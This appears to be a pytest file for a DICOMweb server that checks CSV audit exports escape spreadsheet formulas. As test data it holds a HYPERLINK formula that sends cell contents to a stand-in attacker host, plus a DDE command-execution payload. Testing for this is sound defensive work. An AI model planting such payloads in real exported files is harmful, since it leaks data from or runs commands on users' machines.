"""CSV reports opened in a spreadsheet: values that would run as formulas stay text."""

from __future__ import annotations

import csv
import datetime
import io
from zoneinfo import ZoneInfo

import pytest

from dicomweb_server.audit.availability import AvailabilityReport, Reciprocity, StudyStatus, parse_period
from dicomweb_server.audit.disclosures import Accounting, Disclosure
from dicomweb_server.audit.spreadsheet import text_cell
from dicomweb_server.consent import periods

UTC = ZoneInfo("UTC")
PERIOD = parse_period("2026-01-01", "2026-12-31", UTC)
NOW = datetime.datetime(2026, 6, 1, tzinfo=datetime.UTC)
PATIENT_ID = '=HYPERLINK("http://attacker.invalid/?"&A1,"open")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+41 44 000", "'+41 44 000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("PAT-=1", "PAT-=1"),
        ("1.2.840.10008", "1.2.840.10008"),
        ("", ""),
        (1234, 1234),
    ],
)
def test_text_cell_case(value: object, expected: object) -> None:
    assert text_cell(value) == expected


def test_availability_csv_neutralises_formulas() -> None:
    day = datetime.date(2026, 3, 10)
    study = StudyStatus(
        "1.2.3", PATIENT_ID, "+ISSUER", "@ACC", "20260310", day, periods.required_until(day, UTC)
    )
    report = AvailabilityReport(PERIOD, NOW, [study], 1, Reciprocity())

    rows = list(csv.DictReader(io.StringIO(report.to_csv())))

    assert rows[0]["patient_id"] == "'" + PATIENT_ID
    assert rows[0]["issuer_of_patient_id"] == "'+ISSUER"
    assert rows[0]["accession_number"] == "'@ACC"
    assert rows[0]["study_instance_uid"] == "1.2.3"
    assert rows[0]["study_date"] == "20260310"


def test_disclosures_csv_neutralises_formulas() -> None:
    studied = {
        "study_instance_uid": "1.2.3",
        "study_date": "20260310",
        "modalities": ["CT"],
        "study_description": "-2+3",
        "accession_number": "=ACC",
        "instances": 2,
    }
    disclosure = Disclosure(
        event_id="e1",
        request_id="r1",
        time=NOW,
        organisation="=cmd|' /C calc'!A0",
        requester="token 3ee13edcea4d",
        kind="search results (study attributes)",
        studies=[studied],
        instances=2,
        bytes_sent=-1,
        purpose="@purpose",
        authorizations=["a1"],
        emergency_accesses=[],
    )
    accounting = Accounting(PATIENT_ID, None, PERIOD, NOW, [disclosure])

    rows = list(csv.DictReader(io.StringIO(accounting.to_csv())))

    assert rows[0]["organisation"] == "'=cmd|' /C calc'!A0"
    assert rows[0]["study_description"] == "'-2+3"
    assert rows[0]["accession_number"] == "'=ACC"
    assert rows[0]["purpose"] == "'@purpose"
    assert rows[0]["bytes"] == "-1"
    assert rows[0]["instances"] == "2"
    assert rows[0]["requester"] == "token 3ee13edcea4d"
